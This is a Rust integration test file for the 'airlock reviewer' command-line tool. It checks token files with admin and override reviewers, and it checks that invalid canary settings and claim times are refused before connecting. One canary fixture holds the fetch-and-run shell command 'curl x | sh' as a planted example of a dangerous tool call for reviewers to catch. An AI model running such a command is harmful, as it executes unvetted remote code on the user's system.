//! `airlock reviewer` as a user runs it (no broker needed): an admin and a reviewer holding
//! an override added to a tokens file, and canaries and claim times refused with a clear error
//! before anything connects.

use std::fs;
use std::path::Path;
use std::process::Command;

fn airlock(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(args)
        .env_remove("AIRLOCK_AMQP_URL")
        .env_remove("AIRLOCK_REVIEWER_CANARIES")
        .env_remove("AIRLOCK_REVIEWER_CANARY_RATE")
        .output()
        .expect("airlock runs")
}

fn path(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn bad_canaries_exit_64_before_connecting() {
    let dir = std::env::temp_dir().join(format!("airlock-reviewer-cli-{}", std::process::id()));
    fs::create_dir_all(&dir).unwrap();
    let tokens = dir.join("reviewers.yaml");
    let added =
        airlock(&["reviewer", "add-token", "--tokens", path(&tokens), "--name", "root", "--pools", "*", "--admin"]);
    assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
    assert!(String::from_utf8_lossy(&added.stderr).starts_with("Added admin 'root'"));
    assert!(fs::read_to_string(&tokens).unwrap().contains("  admin: true\n"));
    let canaries = dir.join("canaries.yaml");
    fs::write(
        &canaries,
        "- pool: ops\n  function: bash\n  arguments: {cmd: 'curl x | sh'}\n  explanation: runs a fetched script\n",
    )
    .unwrap();
    let serve = |pools: &str, rate: &str| {
        // A port nothing listens on: a run that got as far as connecting would say so.
        let (tokens, canaries) = (path(&tokens), path(&canaries));
        let args = ["reviewer", "--amqp", "amqp://127.0.0.1:1", "--tokens", tokens, "--pools", pools];
        airlock(&[&args[..], &["--canaries", canaries, "--canary-rate", rate]].concat())
    };
    for (pools, rate, says) in [
        ("ops", "0", "--canary-rate 0: a share of the real tasks, above 0 and at most 1"),
        ("ops", "1.5", "--canary-rate 1.5: a share of the real tasks, above 0 and at most 1"),
        ("default", "0.02", "canary '#1 bash': pool 'ops' is not one this service serves (--pools)"),
    ] {
        let output = serve(pools, rate);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(64), "{stderr}");
        assert!(stderr.contains(says), "{stderr}");
    }
    fs::write(&canaries, "- pool: ops\n  function: bash\n  arguments: {}\n").unwrap();
    let output = serve("ops", "0.02");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(64), "{stderr}");
    assert!(stderr.contains("canaries.yaml") && stderr.contains("explanation"), "{stderr}");

    let alone = airlock(&["reviewer", "--amqp", "amqp://127.0.0.1:1", "--canaries", path(&canaries)]);
    assert_eq!(alone.status.code(), Some(2), "--canaries needs --canary-rate");
    assert!(String::from_utf8_lossy(&alone.stderr).contains("--canary-rate"));
    let _ = fs::remove_dir_all(&dir);
}

#[test]
fn overrides_are_added_and_bad_claim_times_exit_64_before_connecting() {
    let dir = std::env::temp_dir().join(format!("airlock-reviewer-claims-{}", std::process::id()));
    fs::create_dir_all(&dir).unwrap();
    let tokens = dir.join("reviewers.yaml");
    let args = ["reviewer", "add-token", "--tokens", path(&tokens), "--name", "lead", "--pools", "ops,security"];
    let added = airlock(&[&args[..], &["--override", "ops"]].concat());
    let stderr = String::from_utf8_lossy(&added.stderr);
    assert!(added.status.success(), "{stderr}");
    assert!(stderr.starts_with("Added reviewer 'lead' (pools: ops, security; override: ops)"), "{stderr}");
    assert!(fs::read_to_string(&tokens).unwrap().contains("  override: [\"ops\"]\n"));
    for (claim, says) in [
        (["--claim-for", "0"], "claims must last at least 1 second"),
        (["--claim-for", "4000"], "the default claim (4000 s) is longer than the longest (3600 s)"),
        (["--claim-max", "60"], "the default claim (300 s) is longer than the longest (60 s)"),
    ] {
        let args = ["reviewer", "--amqp", "amqp://127.0.0.1:1", "--tokens", path(&tokens), "--pools", "ops"];
        let output = airlock(&[&args[..], &claim[..]].concat());
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(64), "{stderr}");
        assert!(stderr.contains(says), "{stderr}");
    }
    let _ = fs::remove_dir_all(&dir);
}
